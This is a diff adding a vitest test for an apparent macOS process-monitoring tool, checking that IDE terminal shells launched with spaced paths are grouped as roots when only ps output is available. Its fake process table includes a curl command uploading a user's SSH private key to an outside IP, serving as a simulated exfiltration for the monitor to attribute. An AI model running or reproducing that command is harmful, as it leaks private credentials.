@@ -1,0 +1,64 @@
+/**
+ * A host where only ps lists processes (no eslogger yet, or terminals opened before the extension started): an IDE's
+ * terminal shell, started with a path that has spaces in it, is a group root (a review's case; ps splits argv on
+ * whitespace).
+ */
+/**
+ * review8: a ps-only host (eslogger not running, or a terminal opened before the extension (re)started) lists an
+ * IDE's terminal shell with argv joined by spaces; parse-ps splits it again on whitespace, so an option argument
+ * holding a space (`/Applications/IntelliJ IDEA.app/…`, `/Applications/Visual Studio Code.app/…`) becomes a
+ * "script operand" and the terminal shell stops being a group root (SPEC §4).
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, expect, it } from 'vitest';
+import { fixedClock } from '../../src/clock.js';
+import { parseConfig } from '../../src/config/index.js';
+import { silentLogger } from '../../src/log.js';
+import { FAKE_TOOLS_DIR } from '../../test/helpers/cli.js';
+import { createContext } from '../runtime/create-context.js';
+import { refreshProcessSnapshot } from './refresh.js';
+
+const dirs: string[] = [];
+afterEach(() => {
+  delete process.env.OUTFLOW_FAKE_PS;
+  delete process.env.OUTFLOW_FAKE_PS_ARGS;
+  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
+});
+
+const L = 'Tue Mar  3 07:05:59 2026';
+const IDEA = '/Applications/IntelliJ IDEA.app/Contents/MacOS/idea';
+const VSCODE = '/Applications/Visual Studio Code.app/Contents/MacOS/Electron';
+const HELPER = '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper';
+const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';
+
+it.each([
+  // JetBrains IDEs on macOS (ps output as seen in the wild): old code (aa8bbf4) made this a root (-i), new code does not
+  ['IntelliJ bash', [[900, 1, IDEA, IDEA], [950, 900, '/bin/bash', '/bin/bash --rcfile /Applications/IntelliJ IDEA.app/Contents/plugins/terminal/jediterm-bash.in -i']], { 900: ['com.jetbrains.intellij', '2ZEFAR8TH3'] }],
+  // VS Code's bash / fish shell integration (the launches 3b439b9 and dcdfd29 meant to make roots)
+  ['VS Code bash', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/bin/bash', `/bin/bash --init-file ${SI}/shellIntegration-bash.sh`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
+  ['VS Code fish', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/opt/homebrew/bin/fish', `fish --init-command source "${SI}/shellIntegration.fish"`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
+] as const)('ps-only: %s terminal tab is a group root', async (_n, rows, ids) => {
+  const dir = mkdtempSync(path.join(tmpdir(), 'review8-'));
+  dirs.push(dir);
+  const all = [[1, 0, '/sbin/launchd', '/sbin/launchd'], ...rows, [960, 950, '/usr/bin/curl', 'curl -T /Users/dana/.ssh/id_ed25519 https://203.0.113.5/']] as const;
+  writeFileSync(path.join(dir, 'ps.txt'), all.map(([pid, ppid, comm]) => `${String(pid).padStart(5)} ${String(ppid).padStart(5)}   501 ${L} ${comm}\n`).join(''));
+  writeFileSync(path.join(dir, 'args.txt'), all.map(([pid, , , args]) => `${String(pid).padStart(5)} ${args}\n`).join(''));
+  process.env.OUTFLOW_FAKE_PS = path.join(dir, 'ps.txt');
+  process.env.OUTFLOW_FAKE_PS_ARGS = path.join(dir, 'args.txt');
+  const clock = fixedClock(1_772_540_000);
+  const ctx = createContext({ platform: 'darwin', config: parseConfig({ tools: { dir: FAKE_TOOLS_DIR } }), log: silentLogger(), clock });
+  try {
+    await refreshProcessSnapshot(ctx);
+    // identity as code_signing's enrichProcessIdentity copies it on a ps-only host
+    for (const [pid, [signingId, teamId]] of Object.entries(ids)) {
+      const p = ctx.processes.get(Number(pid))!;
+      ctx.processes.observe({ pid: p.pid, processStart: p.processStart, signingId, teamId, platformBinary: false, source: 'ps', seenAt: clock.unix() });
+    }
+    const g = ctx.processes.group(ctx.processes.get(960)!);
+    expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 950, kind: 'terminal_shell' });
+  } finally {
+    await ctx.signing.stop();
+  }
+});
